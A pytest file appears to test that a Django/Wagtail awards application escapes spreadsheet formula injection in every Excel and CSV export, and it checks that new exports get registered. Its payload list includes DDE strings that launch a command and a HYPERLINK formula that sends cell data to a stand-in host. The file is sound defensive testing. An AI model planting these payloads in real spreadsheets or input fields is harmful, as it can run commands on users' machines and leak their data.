"""Formula injection: every Excel and CSV export writes text that a spreadsheet would run (=, +, -, @,
tab or carriage return first, or after spaces) as text, through thidua.core.spreadsheet_safety.

Each export gets the payloads in the user-typed fields it writes, and the file read back must hold no
formula cell and no formula-like text, while the payloads are there, escaped (so the test can fail).
test_every_export_is_listed_here scans the code for anything that writes a spreadsheet: a new export
fails it until it is added here with its test.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from tests.emulation.builders import plain_dashboard
from tests.factories import CommuneFactory, PersonFactory
from thidua.core.audit import audit_record
from thidua.core.spreadsheet_safety import MARK, is_formula_like
from thidua.emulation.presenters.exports import results_export, results_workbook
from thidua.org.import_kinds import import_kinds
from thidua.org.spreadsheets import RowError, build_export, build_failed_rows, get_sheet

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
# The registered import kinds, named: the registry fills at start-up, after collection.
KINDS = ["people", "units", "award_decisions", "ratings"]


# --- Reading an export back ----------------------------------------------------------------------------
def xlsx_cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


def csv_cells(text: str) -> list[str]:
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def assert_safe(cells: list[Any], payloads: list[str]) -> None:
    texts = [value for value in cells if isinstance(value, str)]
    runnable = [value for value in texts if is_formula_like(value)]
    assert runnable == [], runnable
    # The payloads were written (escaped), or the test proves nothing. XML keeps a carriage return
    # as a line feed, so compare without it.
    written = {value.replace("\r", "\n") for value in texts}
    for payload in payloads:
        assert any(MARK + payload.replace("\r", "\n") in value for value in written), payload


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


# --- Each export ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", KINDS)
def test_registry_exports_and_templates_of_every_import_kind(kind: str) -> None:
    """org's people and units, the awards registry's kinds: build_export writes every column's text
    through the guard (the screens' exports call it with the database's rows)."""
    columns = get_sheet(kind).columns
    rows = [{c.key: (None if c.type == "date" else payload) for c in columns} for payload in PAYLOADS]
    assert_safe(xlsx_cells(build_export(kind, rows)), PAYLOADS)


@pytest.mark.parametrize("kind", KINDS)
def test_failed_rows_of_every_import_kind(kind: str) -> None:
    """«Tải các dòng lỗi»: the officer's own rows written back, with the errors, which quote values."""
    columns = get_sheet(kind).import_columns
    book = openpyxl.Workbook()
    book.active.title = str(get_sheet(kind).title)
    book.active.append([c.sheet_header for c in columns])
    for row, payload in enumerate(PAYLOADS, start=2):
        for column in range(1, len(columns) + 1):
            # Typed as text by someone (a cell typed '=… in Excel): the upload carries the text itself.
            book.active.cell(row=row, column=column, value=payload).data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    errors = [RowError(row, columns[0].header, PAYLOADS[row - 2]) for row in range(2, 2 + len(PAYLOADS))]
    assert_safe(xlsx_cells(build_failed_rows(kind, buffer.getvalue(), errors)), PAYLOADS)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["people", "units"])
def test_org_exports_over_http(world: Any, personas: dict[str, Any], kind: str) -> None:
    if kind == "people":
        for payload in PAYLOADS:
            PersonFactory(full_name=payload, organisation=world.home)
    else:
        for payload in PAYLOADS:
            CommuneFactory(name=payload)
    response = _client(personas["province"]).get(f"/admin/org/excel/{kind}/export/")
    assert response.status_code == 200
    assert_safe(xlsx_cells(_body(response)), PAYLOADS)


def test_period_results_workbook() -> None:
    board = plain_dashboard()
    rows = [
        dataclasses.replace(row, name=payload)
        for row, payload in zip(board.rows * len(PAYLOADS), PAYLOADS, strict=False)
    ]
    board = dataclasses.replace(board, rows=tuple(rows), group_name=PAYLOADS[0], pact_title=PAYLOADS[1])
    assert_safe(xlsx_cells(results_workbook(results_export(board))), PAYLOADS)


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_audit_log_export(personas: dict[str, Any], export: str) -> None:
    for payload in PAYLOADS:
        audit_record(
            actor=personas["sysadmin"], action="core.job.cancel", target=personas["sysadmin"], reason=payload
        )
    response = _client(personas["sysadmin"]).get("/admin/audit/", {"export": export})
    assert response.status_code == 200
    body = _body(response)
    cells = csv_cells(body.decode("utf-8-sig")) if export == "csv" else xlsx_cells(body)
    assert_safe(cells, PAYLOADS)


@pytest.mark.django_db
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_wagtail_page_reports(django_user_model: Any, export: str) -> None:
    """Wagtail's own exports (site history here; aging pages, locked pages, workflows, redirects use the
    same mixin): page titles are typed by editors."""
    from wagtail.log_actions import log
    from wagtail.models import Page

    admin = django_user_model.objects.create_superuser("sieuquantri", "a@example.vn", "x")
    from thidua.portal.services.pages import portal_home_ensure

    # A transactional test's flush, earlier on the same worker, empties Wagtail's tables too (the root
    # page, the default locale): the portal's own repair service puts them back.
    portal_home_ensure()
    root = Page.get_first_root_node()
    for number, payload in enumerate(PAYLOADS):
        page = root.add_child(instance=Page(title=payload, slug=f"trang-{number}"))
        log(page, "wagtail.create", user=admin)
    response = _client(admin).get(reverse("wagtailadmin_reports:site_history"), {"export": export})
    assert response.status_code == 200
    body = _body(response)
    cells = csv_cells(body.decode("utf-8-sig")) if export == "csv" else xlsx_cells(body)
    assert_safe(cells, PAYLOADS)


# --- The list of exports ----------------------------------------------------------------------------
# Every module that writes a spreadsheet, and the test above that covers it.
EXPORTS = {
    "thidua/org/spreadsheets.py": "test_registry_exports_and_templates_of_every_import_kind, test_failed_rows_…",
    "thidua/org/views/imports.py": "test_org_exports_over_http (it serves org/spreadsheets' bytes)",
    "thidua/emulation/presenters/exports.py": "test_period_results_workbook",
    "thidua/emulation/views/dashboard.py": "test_period_results_workbook (it serves presenters/exports)",
    "thidua/core/admin/audit.py": "test_audit_log_export",
    "thidua/core/admin/exports.py": "test_wagtail_page_reports (the guard of Wagtail's own exports)",
}
MARKERS = re.compile(
    r"openpyxl|xlsxwriter|import csv|csv\.writer|csv\.DictWriter|text/csv|spreadsheetml|list_export\s*="
    r"|SpreadsheetExportMixin"
)
NOT_EXPORTS = {
    "thidua/core/spreadsheet_safety.py",  # the guard itself
    "thidua/core/uploads.py",  # reads uploads
    "thidua/awards/spreadsheets.py",  # sheet layouts as data, written by org/spreadsheets
    "thidua/awards/apps.py",  # registers those layouts
    "thidua/org/import_kinds.py",  # the registry of import kinds
}


def test_the_kinds_above_are_every_registered_kind() -> None:
    assert sorted(entry.kind for entry in import_kinds()) == sorted(KINDS)


def test_every_export_is_listed_here() -> None:
    found = set()
    for path in (ROOT / "thidua").rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if "/migrations/" in relative or relative.startswith("thidua/demo/"):
            continue
        if MARKERS.search(path.read_text(encoding="utf-8")):
            found.add(relative)
    unlisted = sorted(found - set(EXPORTS) - NOT_EXPORTS)
    assert unlisted == [], (
        f"{unlisted} write a spreadsheet or CSV: pass user text through "
        "thidua.core.spreadsheet_safety.escape_formula and add a test to this file"
    )
    assert set(EXPORTS) <= found, sorted(set(EXPORTS) - found)
